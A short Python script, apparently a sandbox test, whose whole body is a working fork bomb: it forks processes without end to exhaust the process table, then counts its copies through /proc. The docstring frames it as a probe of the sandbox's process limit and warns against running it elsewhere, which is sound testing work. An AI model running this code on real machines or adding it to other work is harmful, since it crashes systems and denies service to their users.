"""Fork bomb: every process forks as fast as it can; the first one then counts the processes.

Attempts to exhaust the machine's process table. Once its own fork fails, the first process waits
for the others to saturate and prints how many live processes share its name (children inherit
it). In the sandbox fork fails once the program's uid holds ``Limits.processes`` tasks, the
program is killed at its timeout, and nothing survives. Never run outside the sandbox.
"""

import os
import time


def processes_named_like_me():
    with open("/proc/self/comm") as handle:
        name = handle.read()
    count = 0
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{entry}/comm") as handle:
                count += handle.read() == name
        except OSError:
            pass
    return count


while True:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
time.sleep(0.5)
print(f"processes {processes_named_like_me()}", flush=True)
while True:
    time.sleep(1)
